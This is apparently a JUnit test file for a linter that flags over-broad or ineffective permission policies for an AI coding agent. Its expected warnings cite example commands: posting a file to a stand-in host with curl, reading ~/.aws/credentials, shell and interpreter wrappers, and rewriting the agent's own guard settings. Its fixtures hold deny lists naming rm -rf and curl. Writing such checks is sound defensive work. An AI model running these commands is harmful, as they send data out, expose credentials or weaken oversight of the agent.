package dev.countersign.policy.lint;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import dev.countersign.policy.Judged;
import dev.countersign.policy.language.PolicyFile;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class LinterTest {

    static Stream<Arguments> files() {
        return Stream.of(
                argumentSet(
                        "everything is allowed",
                        """
                        version: "2.1"
                        permissions:
                          filesystem: {allow: ["**"]}
                          commands: {allow: ["*"]}
                          network: {allow_outbound: false, exceptions: ["*"]}
                          mcp: {servers: [{name: "*"}]}
                        defaults: {network: allow}
                        """,
                        """
                        3:24 broad-allow permissions.filesystem.allow[**]: it allows the change of every file in the project, for example writing zq7/zq7.zq7
                        4:22 broad-allow permissions.commands.allow[*]: it allows every program, for example zq7-program --zq7
                        5:48 broad-allow permissions.network.exceptions: it allows connections to machines that anybody can set up, for example connecting to zq7.example
                        6:26 broad-allow permissions.mcp.*: it allows tools of every server, for example zq7/delete_zq7
                        7:21 broad-allow default.network: what no rule speaks of is allowed; say warn or require_approval and allow what is needed"""),
                argumentSet(
                        "shells, interpreters and wrappers",
                        """
                        version: "2.1"
                        permissions:
                          commands: {allow: [bash, "python *", "curl *", sudo, "npm test"], unlisted: warn}
                        """,
                        """
                        3:22 broad-allow permissions.commands.allow[bash]: it allows a shell, which runs whatever it is told, for example bash -c 'anything'
                        3:28 broad-allow permissions.commands.allow[python *]: it allows code that is given on the command line, for example python -c 'anything'
                        3:40 broad-allow permissions.commands.allow[curl *]: it allows sending any file anywhere, for example curl -d @zq7 https://zq7.example
                        3:50 broad-allow permissions.commands.allow[sudo]: it allows raised privileges, for example sudo anything"""),
                argumentSet(
                        "an effect that is allowed as a whole",
                        """
                        version: "2.1"
                        rules:
                          - {id: a, effect: allow, match: {effect: [secret.read]}}
                          - {id: b, effect: allow, match: {effect: [secret.read], paths: ["config/.env.test"]}}
                        """,
                        "3:5 broad-allow a: it allows reading every credential, for example cat ~/.aws/credentials"),
                argumentSet(
                        "a guard that is open",
                        """
                        version: "2.1"
                        permissions:
                          filesystem: {allow: [".claude/**", "src/**"]}
                        """,
                        "3:24 broad-allow permissions.filesystem.allow[.claude/**]: it allows the change of what guards the agent, for example writing .claude/settings.json"),
                argumentSet(
                        "a host that anybody can have",
                        """
                        version: "2.1"
                        permissions:
                          network: {allow_outbound: false, exceptions: ["*.github.io", "github.com"]}
                        """,
                        "3:48 broad-allow permissions.network.exceptions: it allows connections to machines that anybody can set up, for example connecting to zq7.github.io"),
                argumentSet(
                        "permissions that do nothing",
                        """
                        version: "2.1"
                        permissions:
                          filesystem: {allow: ["src/secrets/**", "src/", "../lib/a.ts", "src/**"], deny: ["src/secrets/**"]}
                          commands: {allow: ["git push", "git status"], deny: [git push]}
                        """,
                        """
                        3:24 shadowed-allow permissions.filesystem.allow[src/secrets/**] does nothing: permissions.filesystem.deny[src/secrets/**] (line 3) denies all of it
                        3:42 never-matches permissions.filesystem.allow[src/]: nothing is ever called so; what allows is compared exactly: no "..", no slash at the end, letter case as it is
                        3:50 never-matches permissions.filesystem.allow[../lib/a.ts]: nothing is ever called so; what allows is compared exactly: no "..", no slash at the end, letter case as it is
                        4:22 shadowed-allow permissions.commands.allow[git push] does nothing: permissions.commands.deny[git push] (line 4) denies all of it"""),
                argumentSet(
                        "rules that say the same",
                        """
                        version: "2.1"
                        permissions:
                          commands: {deny: [rm -rf, rm -r -f, npm publish, npm], unlisted: warn}
                          filesystem: {deny: ["secrets/**", "secrets", "secrets/a/**"]}
                        """,
                        """
                        3:29 duplicate permissions.commands.deny[rm -r -f] says the same as permissions.commands.deny[rm -rf] (line 3)
                        3:39 covered permissions.commands.deny[npm publish] says nothing that permissions.commands.deny[npm] (line 3) does not say
                        4:23 covered permissions.filesystem.deny[secrets/**] says nothing that permissions.filesystem.deny[secrets] (line 4) does not say
                        4:48 covered permissions.filesystem.deny[secrets/a/**] says nothing that permissions.filesystem.deny[secrets/**] (line 4) does not say"""),
                argumentSet(
                        "conditions that contradict each other",
                        """
                        version: "2.1"
                        rules:
                          - {id: a, effect: deny, match: {effect: [secret.read], all: [{effect: [vcs.push]}]}}
                          - {id: b, effect: deny, match: {tool: Read, command: [cat]}}
                          - {id: c, effect: deny, match: {mcp: {server: x}, program: [cat]}}
                          - {id: d, effect: deny, match: {reach: [direct], all: [{reach: [wrapped]}]}}
                          - {id: e, effect: deny, match: {access: [read], all: [{access: [write]}]}}
                          - {id: f, effect: deny, match: {paths: {any: ["a/**"], none: ["a/**"]}}}
                          - {id: g, effect: deny, match: {effect: [secret.read], access: [write]}}
                        """,
                        """
                        3:5 never-matches a: no fact has two effects
                        4:5 never-matches b: Read runs no command
                        5:5 never-matches c: a tool of an MCP server runs no command
                        6:5 never-matches d: no fact is reached in two ways
                        7:5 never-matches e: nothing is done to a file in two ways at once
                        8:5 never-matches f: nothing is ever called so, or its exceptions leave nothing"""),
                argumentSet(
                        "names and numbers",
                        """
                        version: "2.0"
                        agents: [""]
                        rules:
                          - {id: a, effect: deny, match: {tool: [bash, webfetch, Read, MyOwnTool, "mcp__x__y"]}}
                          - {id: b, effect: require_approval, approval: {groups: [x], quorum: 12}, match: {tool: Agent}}
                        """,
                        """
                        1:10 old-version version 2.0 is read as 2.1; agent-policy migrate rewrites it
                        2:10 no-agent no agent or group has an empty name
                        4:42 unknown-tool no agent has a tool "bash"; it is called "Bash"
                        4:48 unknown-tool no agent has a tool "webfetch"; it is called "WebFetch"
                        5:71 large-quorum 12 people have to agree; what too few can approve is denied in the end"""),
                argumentSet(
                        "the folder itself",
                        """
                        version: "2.1"
                        rules:
                          - {id: a, effect: deny, match: {effect: [fs.delete.tree], not: {paths: {all_within: ["build/**", dist, "dist/**", "**/*.tmp"]}}}}
                        """,
                        "3:88 folder-itself \"build/**\" is what lies in build; add \"build\" if deleting the folder itself is meant as well"));
    }

    @ParameterizedTest
    @MethodSource("files")
    void finds_what_its_author_hardly_means(String yaml, String expected) {
        assertThat(found(yaml)).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "permissions: {commands: {allow: [npm test, npm run lint, python -m pytest, node scripts/build.js, bash scripts/build.sh, git status, go test], deny: [rm -rf, curl *]}}",
                "permissions: {filesystem: {allow: [\"src/**/*.ts\", \"docs/**\", \"*.md\", package.json], deny: [\".env*\", \"secrets/**\"], read: {deny: [\"**/*.pem\"]}}}",
                "permissions: {network: {allow_outbound: false, exceptions: [registry.npmjs.org, \"*.acme.internal:443\", api.github.com]}}",
                "permissions: {mcp: {servers: [{name: github, tools: {allow: [\"get_*\"], deny: [\"delete_*\"]}}]}}",
                "permissions: {filesystem: {allow: [\"src/**\"], deny: [\"src/gen/**\"]}, commands: {allow: [git], deny: [git push]}}",
                "rules: [{id: a, effect: deny, match: {effect: [fs.delete.tree], not: {paths: {all_within: [build, \"build/**\"]}}}}]",
                "rules: [{id: a, effect: deny, match: {paths: [\"a/**\"]}, except: [{paths: [\"a/b\"]}]}, {id: b, effect: require_approval, match: {paths: [\"a/c/**\"]}}]",
            })
    void ordinary_policies_have_no_findings(String line) {
        assertThat(found("version: \"2.1\"\n" + line)).isEmpty();
    }

    @Test
    void the_policy_that_teams_start_with_has_an_old_version_and_no_more() {
        assertThat(findings(Judged.SEED))
                .extracting(Finding::check)
                .containsExactly(Check.OLD_VERSION, Check.UNTESTED_DENY);
    }

    @Test
    void denials_without_a_test_are_named_one_by_one_once_there_are_tests() {
        String rules =
                """
                version: "2.1"
                rules:
                  - {id: a, effect: deny, match: {effect: [secret.read]}}
                  - {id: b, effect: deny, match: {effect: [vcs.push]}, match_examples: ["git push"]}
                  - {id: c, effect: kill, match: {effect: [db.drop]}}
                  - {id: d, effect: warn, match: {effect: [deploy]}}
                """;
        String tests =
                "tests: [{name: n, given: {command: cat .env}, expect: {effect: deny, rule: a}}]\n";

        assertThat(findings(rules.replace(", match_examples: [\"git push\"]", "")))
                .extracting(Finding::message)
                .containsExactly("none of the 3 rules that deny has a test; add some under tests");
        assertThat(findings(rules + tests))
                .extracting(Finding::message)
                .containsExactly("c has no test");
    }

    @Test
    void rules_of_packs_are_their_authors_matter() {
        assertThat(findings("version: \"2.1\"\nextends: [{pack: builtin/baseline@1}]\n")).isEmpty();
    }

    private static String found(String yaml) {
        return findings(yaml).stream()
                .filter(finding -> finding.check() != Check.UNTESTED_DENY)
                .map(
                        finding ->
                                "%d:%d %s %s"
                                        .formatted(
                                                finding.source().line(),
                                                finding.source().column(),
                                                finding.check().id(),
                                                finding.message()))
                .collect(Collectors.joining("\n"));
    }

    private static List<Finding> findings(String yaml) {
        return Linter.lint(PolicyFile.read("p.yml", yaml), yaml);
    }
}
